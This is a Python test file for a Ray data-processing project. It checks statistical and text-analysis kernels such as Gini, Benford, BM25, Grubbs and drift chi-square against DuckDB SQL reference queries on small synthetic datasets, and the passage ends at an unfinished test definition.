def test_streak_kernel_matches_literal():
    """Island lengths/starts equal a literal scan over distinct days;
    cross-block duplicate (user, day) rows dedup; earliest tie wins."""
    from series_correction_project_updated_ray.stages.relational import (
        _StreakGroup)
    g = pd.DataFrame({
        "user_id": [1] * 7 + [2] * 4 + [1],       # trailing dup block row
        "day": [10, 11, 12, 20, 21, 22, 30,       # u1: 3,3,1 → tie at 10
                5, 6, 8, 9,                        # u2: 2,2 → tie at 5
                11],                               # duplicate (1, 11)
    })
    out = _StreakGroup()(g).set_index("user_id")
    assert out.loc[1, "n_days"] == 7
    assert out.loc[1, "max_streak"] == 3
    assert out.loc[1, "streak_start"] == 10       # earliest of the tie
    assert out.loc[2, "n_days"] == 4
    assert out.loc[2, "max_streak"] == 2
    assert out.loc[2, "streak_start"] == 5


def test_gini_group_merges_partials_and_closes():
    """_GiniGroup merges same-(type, user) block partials before
    ranking, G=0 for uniform counts, and approaches 1 when one user
    dominates; tied counts are permutation-invariant."""
    from series_correction_project_updated_ray.stages.relational import (
        _GiniGroup)
    g = pd.DataFrame({
        # 'a': user 1 appears as two partials (3+2), user 2 has 5 →
        # uniform [5, 5] → gini 0; 'b': [1, 1, 18] dominated
        "event_type": ["a", "a", "a", "b", "b", "b"],
        "user_id": np.array([1, 2, 1, 1, 2, 3], dtype=np.int64),
        "c": np.array([3, 5, 2, 1, 1, 18], dtype=np.int64),
    })
    out = _GiniGroup()(g).set_index("event_type")
    assert out.loc["a", "n_users"] == 2
    assert out.loc["a", "total_events"] == 10
    assert out.loc["a", "gini"] == 0.0
    # b: sorted x=[1,1,18], Σi·x = 1+2+54 = 57, n=3, Σx=20
    want = round(2.0 * 57 / (3.0 * 20) - 4.0 / 3.0, 6)
    assert abs(out.loc["b", "gini"] - want) < 1e-12
    assert out.loc["b", "gini"] > 0.5


def test_transition_entropy_kernel_semantics():
    """_TransitionEntropyGroup: deterministic alternation → H = 0,
    null-type rows break adjacency by removal (the oracle's WHERE
    before row_number), <2-event users emit nothing."""
    from series_correction_project_updated_ray.stages.relational import (
        _TransitionEntropyGroup)
    g = pd.DataFrame({
        # user 1: a→b→a→b deterministic; user 2: one event only;
        # user 3: a→(null dropped)→b — still one bigram a→b
        "user_id": pd.array([1, 1, 1, 1, 2, 3, 3, 3], dtype="Int64"),
        "event_id": np.arange(8, dtype=np.int64),
        "event_type": ["a", "b", "a", "b", "a", "a", None, "b"],
        "t": np.arange(8, dtype=np.int64) * 1_000_000,
    })
    out = _TransitionEntropyGroup()(g).set_index("user_id")
    assert 2 not in out.index
    assert out.loc[1, "n_bigrams"] == 3
    assert out.loc[1, "trans_entropy"] == 0.0   # fully deterministic
    assert out.loc[3, "n_bigrams"] == 1
    assert out.loc[3, "trans_entropy"] == 0.0


def test_benford_kernel_digits_and_chi2():
    """_BenfordGroup: digit cells merge across partials, missing
    digits contribute (0 − e)²/e, and a perfectly Benford-weighted
    sample scores near 0."""
    import math

    from series_correction_project_updated_ray.stages.relational import (
        _BenfordGroup)
    # counts proportional to Benford probabilities (scaled by 1e6)
    p = [math.log(1 + 1 / d) / math.log(10) for d in range(1, 10)]
    counts = np.round(np.array(p) * 1_000_000).astype(np.int64)
    g = pd.DataFrame({
        "event_type": ["x"] * 9 + ["y"],
        "d": np.r_[np.arange(1, 10), [1]].astype(np.int64),
        "c": np.r_[counts, [100]].astype(np.int64),
    })
    out = _BenfordGroup()(g).set_index("event_type")
    assert out.loc["x", "n"] == counts.sum()
    assert out.loc["x", "chi2"] < 1.0           # near-perfect fit
    # y: all mass on digit 1 → χ² = Σ terms with 8 zero cells
    nf = 100.0
    acc = 0.0
    for dd in range(1, 10):
        e = nf * (math.log(1 + 1 / dd) / math.log(10))
        o = 100.0 if dd == 1 else 0.0
        acc += (o - e) ** 2 / e
    assert abs(out.loc["y", "chi2"] - round(acc, 6)) < 1e-12


def test_pmi_presence_partial_and_close():
    """_PmiPresence emits mergeable upper-triangle cells; _PmiClose
    merges, applies the support floor, and computes ln(c·N/(ca·cb))."""
    import math

    import ray

    from series_correction_project_updated_ray.stages.textstage import (
        _PmiClose, _PmiPresence)
    ref = ray.put(["alpha", "beta", "gamma"])
    b1 = pa.table({"text": pa.array(
        ["alpha beta", "alpha beta gamma", "alpha x"])})
    b2 = pa.table({"text": pa.array(["beta alpha", None])})
    p1 = _PmiPresence(ref)(b1).to_pandas()
    p2 = _PmiPresence(ref)(b2).to_pandas()
    merged = pd.concat([p1, p2]).groupby(["i", "j"], as_index=False) \
        .agg(c=("c", "sum"))
    out = _PmiClose(ref, 5, 3)(
        pa.Table.from_pandas(merged)).to_pandas()
    # alpha∩beta appears 3× (≥ min_cooc 3); pairs with gamma only 1×
    assert len(out) == 1
    r = out.iloc[0]
    assert (r["term_a"], r["term_b"]) == ("alpha", "beta")
    assert r["c_ab"] == 3 and r["c_a"] == 4 and r["c_b"] == 3
    want = round(math.log(3.0 * 5.0 / (4.0 * 3.0)), 6)
    assert r["pmi"] == want


def test_runs_test_kernel_semantics():
    """_RunsTestGroup: alternating signs give maximal runs (positive
    z), blocky signs give few runs (negative z), exact-median rows
    drop, all-equal users vanish, one-sided users get NULL z."""
    from series_correction_project_updated_ray.stages.relational import (
        _RunsTestGroup)
    # u1: alternation 1,9,1,9… (median 5, runs = n) → z > 0
    # u2: block 1,1,1,9,9,9 (runs = 2) → z < 0
    # u3: constant → all rows equal median → absent
    # u4: 5,5,9 → median 5 drops two rows → n_below 0 → NULL z
    vals = {1: [1.0, 9.0] * 5, 2: [1.0] * 5 + [9.0] * 5,
            3: [4.0] * 4, 4: [5.0, 5.0, 9.0]}
    rows = [(u, i, float(i), v) for u, vs in vals.items()
            for i, v in enumerate(vs)]
    g = pd.DataFrame(rows, columns=["user_id", "event_id", "t", "value"])
    g["t"] = (g["t"] * 1e6).astype(np.int64)
    g["event_id"] = np.arange(len(g), dtype=np.int64)
    out = _RunsTestGroup()(g).set_index("user_id")
    assert 3 not in out.index
    assert out.loc[1, "runs"] == 10 and out.loc[1, "z"] > 2.0
    assert out.loc[2, "runs"] == 2 and out.loc[2, "z"] < -2.0
    assert out.loc[4, "n_above"] == 1 and out.loc[4, "n_below"] == 0
    assert pd.isna(out.loc[4, "z"])


def test_fano_kernel_merges_and_spans():
    """_FanoGroup merges same-(user, hour) partials, spans include
    empty hours as zero cells, uniform-dense series → fano 0, a
    single burst hour in a long span → fano ≈ count."""
    from series_correction_project_updated_ray.stages.relational import (
        _FanoGroup)
    g = pd.DataFrame({
        # u1: hours 0,1,2 (hour 1 arrives as two partials 1+0)
        # u2: 10 events in hour 5, 1 in hour 14 → span 10
        "user_id": np.array([1, 1, 1, 1, 2, 2], dtype=np.int64),
        "h": np.array([0, 1, 1, 2, 5, 14], dtype=np.int64),
        "c": np.array([1, 1, 0, 1, 10, 1], dtype=np.int64),
    })
    out = _FanoGroup()(g).set_index("user_id")
    assert out.loc[1, "n_events"] == 3      # 1+(1+0)+1 merged
    assert out.loc[1, "span_hours"] == 3
    # u1 merged cells [1,1,1] over span 3 → variance 0
    assert out.loc[1, "fano"] == 0.0
    # u2: cells 10 and 1 over span 10: mean 1.1, var 10.1/10·... 
    n, sq, span = 11.0, 101.0, 10.0
    mean = n / span
    want = round((sq / span - mean * mean) / mean, 6)
    assert out.loc[2, "fano"] == want


def test_source_kl_close_semantics():
    """_SourceKlClose: a source matching the corpus distribution has
    KL ≈ 0 (exactly 0 when it IS the corpus), a skewed source is
    positive, and null sources drop."""
    import math

    from series_correction_project_updated_ray.stages.textstage import (
        _SourceKlClose)
    t = pa.table({
        "source": pa.array(["a", "a", "b", None], pa.string()),
        "term": pa.array(["x", "y", "x", "x"], pa.string()),
        "c": pa.array([3, 1, 4, 9], pa.int64()),
    })
    out = _SourceKlClose()(t).to_pandas().set_index("source")
    assert list(out.index) == ["a", "b"]       # null source dropped
    assert out.loc["a", "n_tokens"] == 4
    # corpus: x=7, y=1, N=8; a: p_x=3/4, p_y=1/4
    kl_a = 0.75 * math.log(0.75 / (7 / 8)) + 0.25 * math.log(0.25 / (1 / 8))
    kl_b = 1.0 * math.log(1.0 / (7 / 8))
    assert abs(out.loc["a", "kl"] - round(kl_a, 6)) < 1e-12
    assert abs(out.loc["b", "kl"] - round(kl_b, 6)) < 1e-12
    assert out.loc["b", "kl"] > 0


def test_cohort_cells_dedup_and_close():
    """_CohortCellsGroup dedups cross-block (user, day) repeats and
    anchors each user at its min day; _CohortClose derives cohort size
    from the age-0 cell."""
    from series_correction_project_updated_ray.stages.relational import (
        _CohortCellsGroup, _CohortClose)
    g = pd.DataFrame({
        # u1 first day 10 (day 10 repeated from two blocks), active 10+12
        # u2 first day 12, active 12 only
        "user_id": np.array([1, 1, 1, 2], dtype=np.int64),
        "day": np.array([10, 10, 12, 12], dtype=np.int64),
    })
    cells = _CohortCellsGroup()(g)
    got = cells.set_index(["cohort_day", "age_days"])["n"].to_dict()
    assert got == {(10, 0): 1, (10, 2): 1, (12, 0): 1}
    out = _CohortClose()(pa.Table.from_pandas(cells)).to_pandas()
    out = out.set_index(["cohort_day", "age_days"])
    assert out.loc[(10, 2), "cohort_size"] == 1
    assert out.loc[(10, 2), "retention"] == 1.0


def test_lexical_richness_close_semantics():
    """_LexicalRichnessClose: types/tokens/hapax are per-source
    integer reductions over the vocab cells; ratios are exact single
    divisions; null sources drop."""
    from series_correction_project_updated_ray.stages.textstage import (
        _LexicalRichnessClose)
    t = pa.table({
        "source": pa.array(["a", "a", "a", "b", None], pa.string()),
        "term": pa.array(["x", "y", "z", "x", "x"], pa.string()),
        "c": pa.array([3, 1, 1, 4, 9], pa.int64()),
    })
    out = _LexicalRichnessClose()(t).to_pandas().set_index("source")
    assert list(out.index) == ["a", "b"]       # null source dropped
    assert out.loc["a", "n_tokens"] == 5
    assert out.loc["a", "n_types"] == 3
    assert out.loc["a", "n_hapax"] == 2
    assert out.loc["a", "ttr"] == 0.6
    assert abs(out.loc["a", "hapax_ratio"] - round(2 / 3, 6)) < 1e-12
    assert out.loc["b", "n_hapax"] == 0
    assert out.loc["b", "hapax_ratio"] == 0.0
    assert out.loc["b", "ttr"] == 0.25


def test_tukey_fences_kernel_matches_sql():
    """Exact quartile lerp + raw-double fence counts match DuckDB
    quantile_cont; NULL keys and NaN values drop; a lone extreme
    point counts as the outlier."""
    import duckdb

    from series_correction_project_updated_ray.stages.rollup import (
        TukeyFencesGroup)
    rng = np.random.default_rng(11)
    n = 300
    g = pd.DataFrame({
        "user_id": pd.array(rng.integers(0, 6, n), dtype="Int64"),
        "value": np.round(rng.normal(50, 10, n), 2),
    })
    g.loc[g.index[:2], "user_id"] = pd.NA
    g.loc[g.index[5:7], "value"] = np.nan
    g.loc[g.index[10], "value"] = 5000.0       # guaranteed outlier
    got = TukeyFencesGroup()(g)
    con = duckdb.connect()
    con.register("ev", g)
    want = con.execute("""
WITH c AS (
  SELECT user_id, value FROM ev
  WHERE user_id IS NOT NULL AND value IS NOT NULL),
q AS (
  SELECT user_id, quantile_cont(value, 0.25) AS q1,
         quantile_cont(value, 0.75) AS q3,
         CAST(COUNT(*) AS BIGINT) AS n
  FROM c GROUP BY 1)
SELECT q.user_id, q.n, round(q.q1, 6) AS q1, round(q.q3, 6) AS q3,
       CAST(COUNT(*) FILTER (c.value < q.q1 - 1.5*(q.q3 - q.q1)
              OR c.value > q.q3 + 1.5*(q.q3 - q.q1)) AS BIGINT)
         AS n_outliers
FROM q JOIN c USING (user_id)
GROUP BY 1, 2, 3, 4""").df()
    cols = sorted(got.columns)
    got = got[cols].sort_values(cols).reset_index(drop=True)
    want = want[cols].sort_values(cols).reset_index(drop=True)
    pd.testing.assert_frame_equal(got, want, check_dtype=False)
    assert got["n_outliers"].sum() >= 1


def test_bigram_score_kernel_fold_order():
    """The per-doc fold is left-to-right over adjacent pairs in
    position order with libm logs of add-one conditionals; docs with
    < 2 tokens drop; n_pairs counts pair positions."""
    import math

    import ray

    from series_correction_project_updated_ray.stages.textstage import (
        _BigramScore)
    # corpus: "aa bb aa" + "aa" → unigrams aa:3 bb:1 (V=2),
    # bigrams (aa,bb):1 (bb,aa):1
    bg = pa.table({"w1": pa.array(["aa", "bb"]),
                   "w2": pa.array(["bb", "aa"]),
                   "cnt": pa.array([1, 1], pa.int64())})
    uni = pa.table({"term": pa.array(["aa", "bb"]),
                    "cnt": pa.array([3, 1], pa.int64())})
    docs = pa.table({
        "doc_id": pa.array([10, 11, 12], pa.int64()),
        "text": pa.array(["aa bb aa", "aa", "!!"]),
    })
    out = _BigramScore([ray.put(bg)], [ray.put(uni)], 2)(docs) \
        .to_pandas().set_index("doc_id")
    lp_ab = math.log((1 + 1) / (3 + 2))
    lp_ba = math.log((1 + 1) / (1 + 2))
    assert out.loc[10, "n_pairs"] == 2
    assert out.loc[10, "logprob"] == round(lp_ab + lp_ba, 6)
    assert out.loc[10, "avg_logprob"] == round((lp_ab + lp_ba) / 2, 6)
    assert 11 not in out.index          # single token → no pairs
    assert 12 not in out.index


def test_bigram_logprob_ray_end_to_end(ray_session):
    """Dataset-level bigram_logprob over sf0.001 equals the SQL oracle
    (two count shuffles + broadcast scoring must not disturb the fold)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        bigram_logprob)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = bigram_logprob(
        rd.read_parquet(sf, columns=["doc_id", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["bigram_logprob"]).df()
    cols = sorted(got.columns)
    got = got[cols].sort_values("doc_id").reset_index(drop=True)
    want = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(got, want, check_dtype=False)
    assert len(got) > 0


def test_dup_span_stats_ray_end_to_end(ray_session):
    """Dataset-level dup_span_stats over sf0.001 equals the SQL oracle
    (span shuffle + zero-padded Sum close), and planted duplicate spans
    across synthetic docs are found."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import dup_span_stats
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = dup_span_stats(
        rd.read_parquet(sf, columns=["doc_id", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["dup_span_stats"]).df()
    cols = sorted(got.columns)
    got = got[cols].sort_values("doc_id").reset_index(drop=True)
    want = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(got, want, check_dtype=False)
    assert len(got) > 0


def test_dup_span_stats_planted_duplicates(ray_session):
    """A verbatim 8-token run shared by two docs is flagged in both;
    a unique doc scores zero; docs under 8 tokens drop."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import dup_span_stats
    shared = "alpha beta gamma delta epsilon zeta eta theta"   # 8 tokens
    docs = rd.from_items([
        {"doc_id": 1, "text": shared + " tail one"},
        {"doc_id": 2, "text": "head two " + shared},
        {"doc_id": 3, "text": "entirely different words with no overlap at all"},
        {"doc_id": 4, "text": "too short"},
    ])
    got = dup_span_stats(docs).to_pandas().set_index("doc_id")
    assert got.loc[1, "n_dup"] == 1 and got.loc[2, "n_dup"] == 1
    assert got.loc[3, "n_dup"] == 0
    assert 4 not in got.index
    # doc 1: 10 tokens -> 3 spans, 1 dup
    assert got.loc[1, "n_spans"] == 3
    assert got.loc[1, "dup_frac"] == round(1 / 3, 6)


def test_bm25_topk_ray_end_to_end(ray_session):
    """Dataset-level BM25 top-10 over sf0.001 equals the SQL oracle
    (global stats aggregate + fixed-order fold + distributed top-k)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import bm25_topk
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = bm25_topk(
        rd.read_parquet(sf, columns=["doc_id", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["bm25_topk"]).df()
    cols = sorted(got.columns)
    got = got[cols].sort_values("doc_id").reset_index(drop=True)
    want = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(got, want, check_dtype=False)
    assert len(got) == 10


def test_bm25_ranking_semantics(ray_session):
    """A document stuffed with every query term outranks one with a
    single term; a doc with no query terms scores 0 and never enters
    the top-k above scorers."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import bm25_topk
    docs = rd.from_items([
        {"doc_id": 1, "text": "hash join sort window hash join"},
        {"doc_id": 2, "text": "hash plus a lot of other filler words here"},
        {"doc_id": 3, "text": "completely unrelated prose about rivers"},
    ])
    got = bm25_topk(docs, k=3).to_pandas()
    assert list(got["doc_id"]) == [1, 2, 3]
    assert got["score"].iloc[0] > got["score"].iloc[1] > 0
    assert got["score"].iloc[2] == 0.0


def test_dsir_score_kernel_semantics():
    """λ(w) is the add-one log-ratio of target vs raw unigram models
    over the shared vocab; the per-doc fold is position-ordered; a
    target-favored term gets positive λ."""
    import math

    import ray

    from series_correction_project_updated_ray.stages.textstage import (
        _DsirScore)
    raw = pa.table({"term": pa.array(["aa", "bb"]),
                    "cnt": pa.array([4, 4], pa.int64())})
    tgt = pa.table({"term": pa.array(["aa"]),
                    "cnt": pa.array([4], pa.int64())})
    # V=2, N_raw=8, N_tgt=4
    sc = _DsirScore([ray.put(raw)], [ray.put(tgt)], 8, 4, 2)
    lam_aa = math.log((4 + 1) / (4 + 2)) - math.log((4 + 1) / (8 + 2))
    lam_bb = math.log((0 + 1) / (4 + 2)) - math.log((4 + 1) / (8 + 2))
    assert lam_aa > 0 > lam_bb
    docs = pa.table({
        "doc_id": pa.array([1, 2], pa.int64()),
        "text": pa.array(["aa bb", "??"])})
    out = sc(docs).to_pandas().set_index("doc_id")
    assert out.loc[1, "log_weight"] == round(lam_aa + lam_bb, 6)
    assert out.loc[1, "n_tok"] == 2
    assert 2 not in out.index


def test_dsir_weights_ray_end_to_end(ray_session):
    """Dataset-level dsir_weights over sf0.001 equals the SQL oracle,
    and en docs average higher weights than non-en docs (the tilt the
    op exists to produce)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        dsir_weights)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = dsir_weights(rd.read_parquet(
        sf, columns=["doc_id", "lang", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["dsir_weights"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("doc_id").reset_index(drop=True)
    w = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    langs = pd.read_parquet(sf, columns=["doc_id", "lang"])
    m = got.merge(langs, on="doc_id")
    en = m.loc[m["lang"] == "en", "avg_log_weight"].mean()
    rest = m.loc[m["lang"] != "en", "avg_log_weight"].mean()
    assert en > rest


def test_promo_revenue_share_end_to_end(ray_session):
    """Q14-shaped promo share over sf0.001 equals the SQL oracle; the
    share lies in (0, 100) and the revenue split is consistent."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        promo_revenue_share)
    d = "/root/testdata/sf0.001"
    got = promo_revenue_share(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_partkey", "l_extendedprice",
                                 "l_discount"]),
        rd.read_parquet(f"{d}/part.parquet",
                        columns=["p_partkey", "p_type"])).to_pandas()
    con = duckdb.connect()
    for t in ("lineitem", "part"):
        con.execute(f"CREATE VIEW {t} AS SELECT * FROM '{d}/{t}.parquet'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["promo_revenue_share"]).df()
    cols = sorted(got.columns)
    pd.testing.assert_frame_equal(got[cols], want[cols], check_dtype=False)
    assert 0 < got["promo_share"].iloc[0] < 100
    assert got["promo_rev"].iloc[0] < got["total_rev"].iloc[0]


def test_late_shipment_priority_end_to_end(ray_session):
    """Q12-shaped late counts over sf0.001 equal the SQL oracle; every
    priority appears and the totals add up to the join size."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        late_shipment_priority)
    d = "/root/testdata/sf0.001"
    got = late_shipment_priority(
        rd.read_parquet(f"{d}/lineitem.parquet",
                        columns=["l_orderkey", "l_shipdate"]),
        rd.read_parquet(f"{d}/orders.parquet",
                        columns=["o_orderkey", "o_orderdate",
                                 "o_orderpriority"])).to_pandas()
    con = duckdb.connect()
    for t in ("lineitem", "orders"):
        con.execute(f"CREATE VIEW {t} AS SELECT * FROM '{d}/{t}.parquet'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["late_shipment_priority"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("o_orderpriority").reset_index(drop=True)
    w = want[cols].sort_values("o_orderpriority").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert len(g) == 5


def test_grubbs_kernel_matches_sql():
    """Exact integer moments + tie-broken argmax match the DuckDB
    window twin; a planted extreme point is identified."""
    import duckdb

    from series_correction_project_updated_ray.stages.relational import (
        _GrubbsGroup)
    rng = np.random.default_rng(67)
    n = 500
    g = pd.DataFrame({
        "event_type": rng.choice(["a", "b", "c"], n),
        "event_id": np.arange(n, dtype=np.int64),
        "value": np.round(rng.normal(50, 10, n), 2),
    })
    g.loc[g.index[3], "value"] = 9999.0     # planted outlier in its type
    g.loc[g.index[5:7], "value"] = np.nan
    got = _GrubbsGroup()(g)
    planted_type = g.loc[g.index[3], "event_type"]
    row = got.set_index("event_type").loc[planted_type]
    assert row["outlier_event_id"] == 3
    assert row["outlier_value"] == 9999.0
    con = duckdb.connect()
    con.register("ev", g)
    want = con.execute("""
WITH c AS (
  SELECT event_type, event_id, value,
         CAST(round(value*100) AS BIGINT) AS cents,
         COUNT(*) OVER (PARTITION BY event_type) AS nk,
         SUM(CAST(round(value*100) AS BIGINT))
           OVER (PARTITION BY event_type) AS s,
         SUM(CAST(round(value*100) AS HUGEINT)
             * CAST(round(value*100) AS BIGINT))
           OVER (PARTITION BY event_type) AS sc2
  FROM ev WHERE event_type IS NOT NULL AND value IS NOT NULL),
y AS (
  SELECT event_type, event_id, value, nk, s, sc2,
         abs(CAST(nk AS BIGINT) * cents - s) AS ay,
         row_number() OVER (PARTITION BY event_type
             ORDER BY abs(CAST(nk AS BIGINT) * cents - s) DESC,
                      event_id) AS rk
  FROM c),
top AS (SELECT * FROM y WHERE rk = 1 AND nk >= 3)
SELECT event_type, CAST(nk AS BIGINT) AS n,
       event_id AS outlier_event_id, value AS outlier_value,
       round((CAST(ay AS DOUBLE) / CAST(nk AS DOUBLE))
             / sqrt(CAST(CAST(nk AS HUGEINT)*nk*sc2
                         - CAST(nk AS HUGEINT)*s*s AS DOUBLE)
                    / CAST(CAST(nk AS HUGEINT)*nk*(nk-1) AS DOUBLE)),
             6) AS g_stat
FROM top
WHERE CAST(nk AS HUGEINT)*nk*sc2 - CAST(nk AS HUGEINT)*s*s > 0""").df()
    cols = sorted(got.columns)
    g2 = got[cols].sort_values("event_type").reset_index(drop=True)
    w2 = want[cols].sort_values("event_type").reset_index(drop=True)
    pd.testing.assert_frame_equal(g2, w2, check_dtype=False)


def test_grubbs_degenerate_groups():
    """Constant-valued and tiny groups emit nothing."""
    from series_correction_project_updated_ray.stages.relational import (
        _GrubbsGroup)
    g = pd.DataFrame({
        "event_type": ["k"] * 5 + ["tiny"] * 2,
        "event_id": np.arange(7, dtype=np.int64),
        "value": [4.0] * 5 + [1.0, 2.0]})
    assert len(_GrubbsGroup()(g)) == 0


def test_char_entropy_kernel_semantics():
    """Uniform chars hit ln(k); a single repeated char scores 0;
    empty docs drop; unicode codepoints count once each."""
    import math

    from series_correction_project_updated_ray.stages.textstage import (
        char_entropy_batch)
    t = pa.table({
        "doc_id": pa.array([1, 2, 3, 4], pa.int64()),
        "text": pa.array(["abcd", "aaaa", "", "汉字汉字"]),
    })
    out = char_entropy_batch(t).to_pandas().set_index("doc_id")
    assert out.loc[1, "entropy"] == round(math.log(4.0), 6)
    assert out.loc[1, "n_distinct"] == 4
    assert out.loc[2, "entropy"] == 0.0
    assert 3 not in out.index
    assert out.loc[4, "n_cp"] == 4 and out.loc[4, "n_distinct"] == 2
    assert out.loc[4, "entropy"] == round(math.log(2.0), 6)


def test_char_entropy_ray_end_to_end(ray_session):
    """Dataset-level char_entropy over sf0.001 (incl. zh/fr text)
    equals the SQL oracle."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        char_entropy)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = char_entropy(
        rd.read_parquet(sf, columns=["doc_id", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["char_entropy"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("doc_id").reset_index(drop=True)
    w = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)


def test_drift_chi2_kernel_matches_sql():
    """Split-half bin counts + ordered chi-square folds match the
    DuckDB twin, including the negative-cents clamp into bin 0."""
    import duckdb

    from series_correction_project_updated_ray.stages.relational import (
        _DriftChi2Group)
    rng = np.random.default_rng(71)
    n = 600
    g = pd.DataFrame({
        "event_type": rng.choice(["a", "b", "c"], n),
        "event_id": np.arange(n, dtype=np.int64),
        "t": rng.integers(0, 10**9, n).astype(np.int64),
        "value": np.round(rng.normal(80, 40, n), 2),   # some negatives
    })
    g.loc[g.index[5:7], "value"] = np.nan
    got = _DriftChi2Group()(g)
    con = duckdb.connect()
    con.register("ev", g)
    want = con.execute("""
WITH c AS (
  SELECT event_type, CAST(round(value*100) AS BIGINT) AS cents,
         row_number() OVER w AS rn,
         COUNT(*) OVER (PARTITION BY event_type) AS nk
  FROM ev WHERE event_type IS NOT NULL AND value IS NOT NULL
  WINDOW w AS (PARTITION BY event_type ORDER BY t, event_id)),
b AS (
  SELECT event_type, nk,
         CASE WHEN rn <= nk // 2 THEN 0 ELSE 1 END AS half,
         LEAST(GREATEST(cents // 1000, 0), 19) AS bin
  FROM c WHERE nk >= 2),
cells AS (
  SELECT event_type, bin, MAX(nk) AS nk,
         MAX(nk) // 2 AS n1, MAX(nk) - MAX(nk) // 2 AS n2,
         CAST(COUNT(*) FILTER (half = 0) AS BIGINT) AS o1,
         CAST(COUNT(*) FILTER (half = 1) AS BIGINT) AS o2
  FROM b GROUP BY 1, 2),
terms AS (
  SELECT event_type, bin, nk,
         (CAST(o1 AS DOUBLE)
            - CAST(n1 * (o1 + o2) AS DOUBLE) / CAST(nk AS DOUBLE))
         * (CAST(o1 AS DOUBLE)
            - CAST(n1 * (o1 + o2) AS DOUBLE) / CAST(nk AS DOUBLE))
         / (CAST(n1 * (o1 + o2) AS DOUBLE) / CAST(nk AS DOUBLE))
         + (CAST(o2 AS DOUBLE)
            - CAST(n2 * (o1 + o2) AS DOUBLE) / CAST(nk AS DOUBLE))
         * (CAST(o2 AS DOUBLE)
            - CAST(n2 * (o1 + o2) AS DOUBLE) / CAST(nk AS DOUBLE))
         / (CAST(n2 * (o1 + o2) AS DOUBLE) / CAST(nk AS DOUBLE)) AS t
  FROM cells),
f AS (
  SELECT event_type, MAX(nk) AS n,
         CAST(COUNT(*) AS BIGINT) AS nbins,
         list_reduce(list(t ORDER BY bin), (a, b) -> a + b) AS chi2
  FROM terms GROUP BY 1)
SELECT event_type, CAST(n AS BIGINT) AS n, nbins - 1 AS dof,
       round(chi2, 6) AS chi2
FROM f""").df()
    cols = sorted(got.columns)
    g2 = got[cols].sort_values("event_type").reset_index(drop=True)
    w2 = want[cols].sort_values("event_type").reset_index(drop=True)
    pd.testing.assert_frame_equal(g2, w2, check_dtype=False)
    assert len(g2) == 3


def test_drift_chi2_detects_shift():
    """A stream whose second half shifts by +100 scores a much larger
    chi-square than a stationary one of the same size."""
    from series_correction_project_updated_ray.stages.relational import (
        _DriftChi2Group)
    rng = np.random.default_rng(13)
    n = 400
    stat = np.round(rng.normal(50, 5, n), 2)
    shift = np.concatenate([np.round(rng.normal(50, 5, n // 2), 2),
                            np.round(rng.normal(150, 5, n // 2), 2)])
    g = pd.DataFrame({
        "event_type": ["stat"] * n + ["shift"] * n,
        "event_id": np.arange(2 * n, dtype=np.int64),
        "t": np.tile(np.arange(n), 2).astype(np.int64),
        "value": np.concatenate([stat, shift])})
    got = _DriftChi2Group()(g).set_index("event_type")
    assert got.loc["shift", "chi2"] > 50 * max(got.loc["stat", "chi2"], 1.0)


def test_embedding_dim_stats_end_to_end(ray_session):
    """Per-dimension stats over sf0.001 equal the SQL oracle; 64 dims,
    counts equal the corpus size."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.similarity import (
        embedding_dim_stats)
    sf = "/root/testdata/sf0.001/embeddings.parquet"
    got = embedding_dim_stats(
        rd.read_parquet(sf, columns=["embedding"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW embeddings AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["embedding_dim_stats"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values("pos").reset_index(drop=True)
    w = want[cols].sort_values("pos").reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    assert len(g) == 64
    assert (g["vmin"] <= g["mean"]).all() and (g["mean"] <= g["vmax"]).all()


def test_embedding_quantize_kernel_semantics():
